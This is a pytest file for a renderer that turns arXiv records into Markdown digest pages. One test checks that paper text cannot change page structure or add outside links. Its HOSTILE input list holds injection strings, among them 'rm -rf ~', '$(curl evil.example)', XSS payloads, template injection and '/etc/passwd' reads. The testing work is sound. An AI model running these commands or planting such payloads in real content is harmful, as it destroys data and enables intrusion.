import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from digest import report as layout
from digest.assets import Assets
from digest.records import CitedSentence, Ledger, Paper, Share, Skipped, SourceLine, Synthesis
from tests.invented import paper, reading, report

ALLOWED_HOSTS = {"arxiv.org", "github.com", ""}
HOSTILE = [
    "<script>alert('x')</script><img src=x onerror=alert(1)> </title></head>",
    "[Read me](javascript:alert(1)) ![pixel](https://evil.example/p.png) | a | `tick` **bold** ~~gone~~",
    "# Heading\n\n| col |\n|---|\n| x |\n\n```sh\nrm -rf ~\n```\n> quote\n\n- [ ] item\n\n---\n",
    "Leaking ${{ secrets.X }} with $(curl evil.example) {{ 7*7 }} {% include 'x' %} <%= 1 %>",
    "Right-to-left \u202egnp.exe\u202c zero\u200bwidth \u2066iso\u2069 \x00\x07\x1b[31mred \u2028 \u2029",
    "@octocat #123 GH-1 octo/repo#5 https://evil.example/ www.evil.example a@evil.example",
    ":rocket: [^1] $x$ &lt;b&gt;",
    "</details></summary><a id='health'></a><!-- -->",
    "대규모 언어 모델 🤖👩‍🔬 تقييم 大型语言模型",
    "=HYPERLINK(\"https://evil.example\") --- - key: 'value'",
    "1. one\n2. two\n* * *\n+ plus\n\tcode",
    r"$\mathcal{O}(n)$ \textbf{bold} \href{javascript:alert(1)}{link} \input{/etc/passwd}",
    "]( https://evil.example ) [x]: https://evil.example \\",
]


class Outline(HTMLParser):
    """The tags, links, pictures and visible text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.text = ""
        html = cmarkgfm.github_flavored_markdown_to_html(
            page, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
        )
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        told = dict(attributes)
        assert not any(name.startswith("on") or name == "style" for name in told), told
        self.addresses += [told[name] or "" for name in ("href", "src") if name in told]

    def handle_data(self, data: str) -> None:
        self.text += data


def language(code: str = "en", first: bool = True) -> layout.Language:
    return layout.Language(code, Assets(Path()).strings(code), first)


def pages(edition: layout.Edition, code: str = "en", first: bool = True) -> dict[str, str]:
    environment = Assets(Path()).environment(layout.FILTERS)
    others = [language("ko", first=False)] if code == "en" else [language("en")]
    return layout.render(edition, language(code, first), others, "Daily Paper Digest", environment)


def edition(papers: list[Paper], **fields: object) -> layout.Edition:
    """An edition whose papers are of language and vision by turns, with a synthesis and means."""
    readings = tuple(reading(p, ("language", "vision")[n % 2], secondary=("other",)) for n, p in enumerate(papers))
    counts = {slug: sum(e.primary == slug for e in readings) for slug in ("language", "vision")}
    told: dict[str, object] = {
        "shares": tuple(Share(slug, count, 1.5) for slug, count in counts.items()),
        "mean_total": 3.0,
        "sources": (SourceLine("arxiv", "feed", len(papers)),),
        "syntheses": (Synthesis("language", (CitedSentence(readings[0].tldr, (papers[0].id,)),), True),),
    }
    return layout.Edition(report(new=len(papers), **{**told, **fields}), tuple(papers), readings)


def plain_edition() -> layout.Edition:
    return edition([paper(n) for n in range(1, 6)])


def test_an_edition_has_a_dated_page_and_a_page_of_cards_per_category() -> None:
    made = pages(plain_edition())
    assert sorted(made) == [
        "2026/01/2026-01-05.md",
        "2026/01/2026-01-05/language.md",
        "2026/01/2026-01-05/vision.md",
    ]


def test_sections_are_ordered_by_size_with_other_last() -> None:
    papers = [paper(n) for n in range(1, 8)]
    slugs = ["other", "other", "other", "vision", "vision", "language", "other"]
    shares = (Share("language", 1), Share("vision", 2), Share("other", 4))
    made = layout.Edition(
        report(new=7, shares=shares),
        tuple(papers),
        tuple(reading(p, s) for p, s in zip(papers, slugs, strict=True)),
    )
    headings = re.findall(r"^## (\S+)", pages(made)["2026/01/2026-01-05.md"], re.M)
    assert headings[1:4] == ["📷", "💬", "📦"]


def test_every_link_inside_the_report_leads_somewhere() -> None:
    made = pages(plain_edition())
    for path, page in made.items():
        for address in Outline(page).addresses:
            target, _, fragment = address.partition("#")
            if urlsplit(address).scheme or target.startswith("../../") or target.endswith((".svg", ".ko.md")):
                continue
            full = (Path(path).parent / target).as_posix() if target else path
            found = made[str(Path("/" + full).resolve()).lstrip("/")]
            assert not fragment or f'<a id="{fragment}"></a>' in found, (path, address)


def test_a_line_says_title_authors_tldr_and_where_to_go_on() -> None:
    made = edition(
        [paper(1, authors=("A", "B", "C", "D"), comment="Code: https://github.com/example/thing."), paper(2)]
    )
    text = pages(made)["2026/01/2026-01-05.md"]
    for part in (
        "[An Invented Paper, Number 1](https://arxiv.org/abs/2601.90001)",
        "A, B, C + 1 more",
        "We invent paper 1.",
        "Also in 📦",
        "[PDF](https://arxiv.org/pdf/2601.90001)",
        "[Code](https://github.com/example/thing)",
        "[Card](2026-01-05/language.md#arxiv-2601-90001)",
    ):
        assert part in text, part


def test_accounting_failures_and_sources_are_told() -> None:
    ledger = Ledger(9, 5, 1, 2, (Skipped("item 3", "no title"),))
    sources = (SourceLine("arxiv", "feed", 8), SourceLine("feed", "", 0, "no answer"))
    text = pages(edition([paper(n) for n in range(1, 6)], ledger=ledger, sources=sources))["2026/01/2026-01-05.md"]
    assert "9 announced = 5 new + 1 updated + 2 already reported + 1 failed" in text
    assert "item 3: no title" in text and "failed and is left for the next edition: no answer" in text


def test_korean_has_its_own_headings_and_the_papers_language() -> None:
    made = pages(plain_edition(), "ko", first=False)
    text = made["2026/01/2026-01-05.ko.md"]
    assert "## 목차" in text and "## 💬 언어" in text and "월요일" in text and "We invent paper 1" in text
    assert "원문 언어" in text and "(2026-01-05/language.ko.md#" in text
    assert "[English](2026-01-05.md)" in text


@pytest.mark.parametrize("code", ["en", "ko"])
def test_the_same_record_gives_the_same_bytes(code: str) -> None:
    assert pages(plain_edition(), code) == pages(plain_edition(), code)


def test_paper_text_cannot_change_the_structure_or_lead_elsewhere() -> None:
    harmless = [paper(n, comment="x", authors=("x", "y"), abstract="x") for n in range(len(HOSTILE))]
    hostile = [
        replace(
            p, title=text, abstract=text, authors=(text, text[:9] + "y"), comment=text, subjects=(text, "cs.LG")
        )
        for p, text in zip(harmless, HOSTILE, strict=True)
    ]

    def readings(of: layout.Edition, texts: list[str]) -> layout.Edition:
        told = tuple(
            replace(e, tldr=t, problem=t, method=t, result=t, application=t, keyphrases=(t,))
            for e, t in zip(of.enrichments, texts, strict=True)
        )
        synthesis = Synthesis("language", tuple(CitedSentence(t, (told[0].paper_id,)) for t in texts), True)
        return replace(of, enrichments=told, report=replace(of.report, syntheses=(synthesis,)))

    calm = pages(readings(edition(harmless), ["x"] * len(HOSTILE)))
    wild = pages(readings(edition(hostile), HOSTILE))
    assert calm.keys() == wild.keys()
    for path in calm:
        before, after = Outline(calm[path]), Outline(wild[path])
        # A bare span is how money keeps its dollar sign on GitHub.
        assert before.tags == [tag for tag in after.tags if tag != "span"], path
        assert before.addresses == after.addresses, path
        assert {urlsplit(a).netloc for a in after.addresses} <= ALLOWED_HOSTS
        assert "<script" not in wild[path] and "{%" not in after.text.replace("{% include 'x' %}", "")


def test_a_bad_address_gives_no_link() -> None:
    made = edition([paper(1, url="javascript:alert(1)", pdf_url="file:///etc/passwd"), paper(2)])
    text = "".join(pages(made).values())
    assert "javascript:" not in text and "file:" not in text and "An Invented Paper, Number 1" in text


@pytest.mark.parametrize("count", [1200, 5000])
def test_every_page_stays_under_400_kb(count: int) -> None:
    long = "We present a method that is described at some length here, with results on several benchmarks. " * 14
    papers = [
        paper(n, id=f"arxiv:2601.{n:05}", title="A Rather Long Title of an Invented Paper " * 2, abstract=long)
        for n in range(count)
    ]
    made = edition(papers)
    made = replace(
        made, enrichments=tuple(replace(e, tldr=long[:190], method=long[:300]) for e in made.enrichments)
    )
    sizes = {path: len(text.encode()) for path, text in pages(made).items()}
    assert max(sizes.values()) < 400_000
    cards = sum(text.count("### ") for path, text in pages(made).items() if "/2026-01-05/" in path)
    assert cards == count


def test_three_thousand_authors_and_a_huge_abstract_are_cut() -> None:
    made = edition(
        [paper(1, authors=tuple(f"Author {n}" for n in range(3000)), abstract="word " * 12_000), paper(2)]
    )
    assert all(len(text) < 40_000 for text in pages(made).values())


def test_strings_of_every_language_have_the_same_keys_and_places() -> None:
    assets = Assets(Path())
    english = assets.strings("en")
    for code in assets.languages():
        strings = assets.strings(code)
        for key, phrase in english.items():
            assert set(re.findall(r"{\w+}", strings[key])) == set(re.findall(r"{\w+}", phrase)), (code, key)


def test_a_day_twice_as_large_is_no_news_of_every_category() -> None:
    shares = (Share("language", 18, 20.0), Share("vision", 42, 10.0), Share("other", 40, 20.0))
    made = report(new=100, shares=shares, mean_total=50.0)
    assert layout.unusual(made, 1) == [("vision", 42, 20.0)]
    assert layout.unusual(made, -1) == [("language", 18, 40.0)]
    assert layout.unusual(replace(made, mean_total=None), 1) == []
